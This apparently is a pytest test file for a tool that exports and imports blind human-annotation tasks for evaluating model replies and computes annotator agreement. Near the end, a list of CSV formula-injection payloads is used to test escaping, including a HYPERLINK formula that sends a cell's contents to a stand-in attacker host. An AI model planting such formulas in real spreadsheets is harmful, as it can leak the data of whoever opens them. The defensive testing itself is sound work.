"""People as the judge: blind export, two-annotator round trip, rows tied to their export.

(The agreement statistics are tested against hand-worked values in test_eval_stats.py.)

    .venv/bin/python -m pytest tests/unit/test_eval_human.py -x -q
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from charops.errors import DataError
from charops.eval.human import export_human, import_human

RESULTS = Path(__file__).parent / "eval_fixtures" / "results"


# ---------------------------------------------------------------------------------------------
# Export / import round trip


def _read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture()
def exported(tmp_path):
    info = export_human(RESULTS, tmp_path / "tasks", seed=3)
    return info, json.loads(Path(info["key"]).read_text())


def test_export_is_blind_shuffled_and_keeps_the_key_apart(exported, tmp_path):
    info, key = exported
    tasks = tmp_path / "tasks"
    assert Path(info["key"]) == tmp_path / "tasks.key.json"
    assert sorted(p.name for p in tasks.iterdir()) == [
        "instructions.md", "pairwise.csv", "pairwise.jsonl", "pointwise.csv", "pointwise.jsonl",
        "turing.csv", "turing.jsonl"]
    assert info["counts"] == {"pointwise": 12, "pairwise": 6, "turing": 12}
    for name in ("pointwise", "pairwise", "turing"):
        text = (tasks / f"{name}.csv").read_text() + (tasks / f"{name}.jsonl").read_text()
        for leak in ("candidate", "baseline", "runs/dpo", "runs/base", '"model"', '"p1"', '"reference"'):
            assert leak not in text, (name, leak)
        rows = _read_csv(tasks / f"{name}.csv")
        assert not {"id", "model", "reference", "source"} & set(rows[0])
        jsonl = [json.loads(line) for line in (tasks / f"{name}.jsonl").read_text().splitlines()]
        assert rows == jsonl  # the two formats carry the same tasks
    # Shuffled: neither the prompt order nor the model order survives, and both sides of a pair
    # appear first.
    point = key["tasks"]["pointwise"]
    assert [point[t]["id"] for t in sorted(point)] != sorted(point[t]["id"] for t in point)
    assert {key["tasks"]["pairwise"][t]["first"] for t in key["tasks"]["pairwise"]} == {"candidate", "baseline"}
    turing = key["tasks"]["turing"]
    assert sorted(s["source"] for s in turing.values()) == ["human"] * 6 + ["model"] * 6
    # A reply is where the key says: the pair task's reply_1 is that model's reply.
    replies = {(json.loads(line)["id"], json.loads(line)["model"]): json.loads(line)["reply"]
               for line in (RESULTS / "replies.jsonl").read_text().splitlines()}
    for row in _read_csv(tasks / "pairwise.csv"):
        secret = key["tasks"]["pairwise"][row["task_id"]]
        assert row["reply_1"] == replies[(secret["id"], secret["first"])]
    assert "Consistency" in (tasks / "instructions.md").read_text()


def test_export_refuses_overlaps_and_existing_output(tmp_path):
    with pytest.raises(DataError, match="overlaps the results directory"):
        export_human(RESULTS, RESULTS / "tasks")
    with pytest.raises(DataError, match="must not be inside the task folder"):
        export_human(RESULTS, tmp_path / "t", key_path=tmp_path / "t" / "key.json")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").write_text("keep me")
    with pytest.raises(DataError, match="not empty"):
        export_human(RESULTS, tmp_path / "full")
    assert (tmp_path / "full" / "x").read_text() == "keep me"
    with pytest.raises(DataError, match="unknown task 'nope'"):
        export_human(RESULTS, tmp_path / "n", tasks=["nope"])


def _fill(exported, tmp_path) -> tuple[Path, Path]:
    """Alice (CSV, named by the file) and Bob (JSONL, named in the column) fill every task.

    Alice: candidate replies 4 on every dimension, baseline 2; always prefers the candidate;
    says `human` for the references and `model` for the candidate's replies.
    Bob: candidate 5, baseline 2; prefers the candidate except on prompt p4, where he prefers
    the baseline; says `human` for everything.
    """
    info, key = exported
    tasks = Path(info["out"])
    alice, bob = [], []
    for row in _read_csv(tasks / "pointwise.csv"):
        model = key["tasks"]["pointwise"][row["task_id"]]["model"]
        alice.append({**row, **{d: 4 if model == "candidate" else 2 for d in key["dimensions"]}})
        bob.append({**row, "annotator": "bob",
                    **{d: 5 if model == "candidate" else 2 for d in key["dimensions"]}})
    for row in _read_csv(tasks / "pairwise.csv"):
        secret = key["tasks"]["pairwise"][row["task_id"]]
        cand = "1" if secret["first"] == "candidate" else "2"
        other = "2" if cand == "1" else "1"
        alice.append({**row, "preference": cand})
        bob.append({**row, "annotator": "bob", "preference": other if secret["id"] == "p4" else cand})
    for row in _read_csv(tasks / "turing.csv"):
        source = key["tasks"]["turing"][row["task_id"]]["source"]
        alice.append({**row, "author": source})
        bob.append({**row, "annotator": "bob", "author": "human"})
    a_path, b_path = tmp_path / "alice.csv", tmp_path / "bob.jsonl"
    with a_path.open("w", encoding="utf-8", newline="") as fh:
        columns = list(dict.fromkeys(k for r in alice for k in r))
        writer = csv.DictWriter(fh, fieldnames=columns)
        writer.writeheader()
        writer.writerows(alice)
    b_path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in bob), encoding="utf-8")
    return a_path, b_path


def test_round_trip_with_two_annotators(exported, tmp_path):
    info, key = exported
    alice, bob = _fill(exported, tmp_path)
    out = tmp_path / "human"
    summary = import_human(info["key"], [alice, bob], out)

    assert summary["judge"]["kind"] == "human" and summary["annotators"] == ["alice", "bob"]
    # Point-wise: the mean of the two annotators per reply (4 and 5 -> 4.5; 2 and 2 -> 2).
    overall = summary["pointwise"]["candidate"]["overall"]["Overall"]
    assert overall["mean"] == pytest.approx(4.5) and overall["n"] == 6
    assert summary["pointwise"]["baseline"]["overall"]["Consistency"]["mean"] == pytest.approx(2.0)
    # Pair-wise: majority per pair; p4 splits 1-1 -> tie. 5 wins, 1 tie, 0 losses.
    pair = summary["pairwise"]["overall"]
    assert (pair["win"], pair["tie"], pair["lose"]) == pytest.approx((500 / 6, 100 / 6, 0.0))
    assert pair["advantage"] == pytest.approx(500 / 6)
    assert pair["sign_test_p"] == pytest.approx(2 * 0.5 ** 5)  # 5 wins vs 0 losses
    assert summary["pairwise"]["by_topic"]["chit-chat"]["tie"] == pytest.approx(50.0)  # p1 win, p4 tie

    # Agreement: two annotators -> Cohen's kappa, no Fleiss.
    agree = summary["agreement"]
    # Scores: alice 4/2, bob 5/2 -> they agree exactly on the 6 baseline replies only.
    consistency = agree["pointwise"]["Consistency"]
    assert consistency["annotators"] == 2 and consistency["items"] == 12
    assert consistency["percent_agreement"] == pytest.approx(50.0)
    # Labels 2 and 4|5: p_o = 1/2, p_e = (6*6)/144 = 1/4 -> kappa = (1/2 - 1/4) / (3/4) = 1/3.
    assert consistency["cohen_kappa"] == pytest.approx(1 / 3)
    assert "fleiss_kappa" not in consistency
    assert agree["pairwise"]["percent_agreement"] == pytest.approx(500 / 6)
    # Turing: alice right every time, bob says human throughout: agree on the 6 references only;
    # alice human/model 6/6, bob human 12 -> p_o = 1/2, p_e = (6*12)/144 = 1/2 -> kappa 0.
    assert agree["turing"]["cohen_kappa"] == pytest.approx(0.0)
    turing = summary["turing"]
    assert turing["candidate"] == {"judgements": 12, "taken_for_human": 6, "taken_for_human_pct": 50.0}
    assert turing["human (reference)"]["taken_for_human_pct"] == 100.0

    # A results directory like `charops eval run`'s, with the same tables and the reports.
    on_disk = json.loads((out / "eval_summary.json").read_text())
    assert on_disk["pairwise"]["overall"]["win"] == pytest.approx(pair["win"])
    report = (out / "report.md").read_text()
    assert "Judge: people (human annotation), model 2 annotators" in report
    assert "## Annotator agreement" in report and "## Turing test" in report
    assert "| candidate | 12 | 6 | 50.0 |" in report
    assert (out / "report.html").is_file()
    assert len((out / "human_ratings.jsonl").read_text().splitlines()) == 2 * (12 + 6 + 12)
    assert on_disk["automatic"] == json.loads((RESULTS / "eval_summary.json").read_text())["automatic"]


def test_three_annotators_give_fleiss_kappa(exported, tmp_path):
    info, key = exported
    alice, bob = _fill(exported, tmp_path)
    carol = tmp_path / "carol.jsonl"
    carol.write_text(bob.read_text().replace('"annotator": "bob"', '"annotator": "carol"'))
    summary = import_human(info["key"], [alice, bob, carol], tmp_path / "h3")
    block = summary["agreement"]["pointwise"]["Overall"]
    assert block["annotators"] == 3 and "cohen_kappa" not in block
    # Per reply: baseline 3x"2" (6 items), candidate 4,5,5 (6 items). P_i: 1 and 1/3 -> P-bar 2/3;
    # shares: 2 -> 18/36, 4 -> 6/36, 5 -> 12/36 -> P_e = (324+36+144)/1296 = 7/18;
    # kappa = (2/3 - 7/18) / (11/18) = 5/11.
    assert block["fleiss_kappa"] == pytest.approx(5 / 11)


def test_bad_annotations_are_one_line_errors_naming_file_line_field(exported, tmp_path):
    info, key = exported
    alice, _ = _fill(exported, tmp_path)
    rows = _read_csv(alice)
    rows[1]["Overall"] = "7"
    bad = tmp_path / "bad.csv"
    with bad.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(DataError, match=r"bad\.csv:3: field 'Overall': '7' is not a score from 1 to 5"):
        import_human(info["key"], [bad], tmp_path / "o")
    assert not (tmp_path / "o").exists()

    stray = tmp_path / "stray.jsonl"
    stray.write_text('{"task": "pairwise", "task_id": "PA9999", "preference": "1"}\n')
    with pytest.raises(DataError, match=r"stray\.jsonl:1: task 'pairwise' / task_id 'PA9999'"):
        import_human(info["key"], [stray], tmp_path / "o")
    with pytest.raises(DataError, match="rated .* twice"):
        import_human(info["key"], [alice, alice], tmp_path / "o")
    with pytest.raises(DataError, match="overlaps the results directory"):
        import_human(info["key"], [alice], RESULTS)
    with pytest.raises(DataError, match="no such key file"):
        import_human(tmp_path / "nokey.json", [alice], tmp_path / "o")


# ---------------------------------------------------------------------------------------------
# Issue 19: rows tied to their export; CSV formula injection; deeply nested annotations


def _write_csv(path: Path, rows: list[dict]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(dict.fromkeys(k for r in rows for k in r)))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_ratings_against_another_exports_key_are_refused(exported, tmp_path):
    """Two exports of the same results (another seed): files filled from the first, read with
    the second's key, used to be accepted and scored against the wrong replies."""
    info, key = exported
    alice, bob = _fill(exported, tmp_path)
    other = export_human(RESULTS, tmp_path / "tasks2", seed=4)
    assert other["export_id"] != info["export_id"]
    with pytest.raises(DataError, match=r"alice\.csv:2: export_id '[0-9a-f]{32}' is not this key's"):
        import_human(other["key"], [alice], tmp_path / "o")
    with pytest.raises(DataError, match=r"bob\.jsonl:1: export_id .* comes from another export"):
        import_human(other["key"], [bob], tmp_path / "o")
    assert not (tmp_path / "o").exists()

    # Same export, but a row now shows other texts than its key entry: its task id edited to
    # another's, or its reply changed.
    rows = _read_csv(alice)
    rows[0]["task_id"], rows[1]["task_id"] = rows[1]["task_id"], rows[0]["task_id"]
    swapped = _write_csv(tmp_path / "swapped.csv", rows)
    with pytest.raises(DataError, match=rf"swapped\.csv:2: {rows[0]['task_id']} does not show the texts"):
        import_human(info["key"], [swapped], tmp_path / "o")
    rows = _read_csv(alice)
    rows[2]["reply"] += " (edited)"
    edited = _write_csv(tmp_path / "edited.csv", rows)
    with pytest.raises(DataError, match=r"edited\.csv:4: .* the row was changed or comes from another export"):
        import_human(info["key"], [edited], tmp_path / "o")
    # And every row carries both marks, in both formats.
    for name in ("pointwise", "pairwise", "turing"):
        for row in _read_csv(Path(info["out"]) / f"{name}.csv"):
            assert row["export_id"] == key["export_id"]
            assert row["fingerprint"] == key["tasks"][name][row["task_id"]]["fingerprint"]


def test_an_old_key_without_export_ids_says_to_export_again(exported, tmp_path):
    info, key = exported
    alice, _ = _fill(exported, tmp_path)
    old = tmp_path / "old.key.json"
    old.write_text(json.dumps({**key, "schema": "charops.human_key/v1"}))
    with pytest.raises(DataError, match="older charops.*export the tasks again"):
        import_human(old, [alice], tmp_path / "o")
    # A key of the right schema but the wrong shape is one line too, not a KeyError.
    broken = [({**key, "export_id": None}, "field 'export_id' is missing or not a JSON string"),
              ({**key, "tasks": {"pairwise": {"PA0001": {"id": "p1"}}}}, "its 'scale' or 'tasks' are not"),
              ({**key, "scale": [1]}, "its 'scale' or 'tasks' are not")]
    for bad, words in broken:
        old.write_text(json.dumps(bad))
        with pytest.raises(DataError, match=re.escape(f"{old}: {words}")):
            import_human(old, [alice], tmp_path / "o")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR", "'=already quoted", "'"]


def test_csv_cells_never_start_a_formula_and_import_restores_them(tmp_path):
    from charops.eval.human import csv_cell, csv_value

    results = tmp_path / "results"
    results.mkdir()
    replies = [json.loads(line) for line in (RESULTS / "replies.jsonl").read_text().splitlines()]
    for i, r in enumerate(replies):
        r["reply"] = FORMULAS[i % len(FORMULAS)] + (" said the candidate" if r["model"] == "candidate" else "")
        r["character"] = "=1+1" if r["id"] == "p2" else r["character"]
    (results / "replies.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in replies))
    (results / "eval_summary.json").write_text((RESULTS / "eval_summary.json").read_text())
    info = export_human(results, tmp_path / "tasks", seed=1)
    key = json.loads(Path(info["key"]).read_text())
    for name in ("pointwise", "pairwise", "turing"):
        rows = _read_csv(tmp_path / "tasks" / f"{name}.csv")
        cells = [v for r in rows for v in r.values()]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        jsonl = [json.loads(line) for line in (tmp_path / "tasks" / f"{name}.jsonl").read_text().splitlines()]
        # The JSONL keeps the texts as they are; the CSV cell is the same text behind an apostrophe.
        assert [{k: csv_cell(v) for k, v in r.items()} for r in jsonl] == rows
    point = _read_csv(tmp_path / "tasks" / "pointwise.csv")
    assert any(r["reply"].startswith("'=HYPERLINK(") for r in point)
    assert any(r["character"] == "'=1+1" for r in point)
    for text in [*FORMULAS, "''", "'x", "plain", ""]:
        assert csv_value(csv_cell(text)) == text

    # Filled in and read back, every row matches its fingerprint and the scores land on the
    # replies the key names.
    filled = [{**r, **{d: 5 if key["tasks"]["pointwise"][r["task_id"]]["model"] == "candidate" else 1
                       for d in key["dimensions"]}} for r in point]
    summary = import_human(info["key"], [_write_csv(tmp_path / "ann.csv", filled)], tmp_path / "human")
    assert summary["pointwise"]["candidate"]["overall"]["Overall"]["mean"] == 5.0
    assert summary["pointwise"]["baseline"]["overall"]["Overall"]["mean"] == 1.0


def test_a_deeply_nested_annotation_is_a_one_line_error(exported, tmp_path):
    from conftest import assert_one_line_error
    from typer.testing import CliRunner

    from charops.cli.main import app

    info, _ = exported
    deep = tmp_path / "deep.jsonl"
    deep.write_text('{"task": "pairwise"}\n{"task": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    with pytest.raises(DataError, match=r"deep\.jsonl:2: JSON nested too deeply"):
        import_human(info["key"], [deep], tmp_path / "o")
    result = CliRunner().invoke(app, ["eval", "import-human", info["key"], str(deep), "--out",
                                      str(tmp_path / "o")])
    assert_one_line_error(result, "deep.jsonl:2", "nested too deeply")
    assert not (tmp_path / "o").exists()
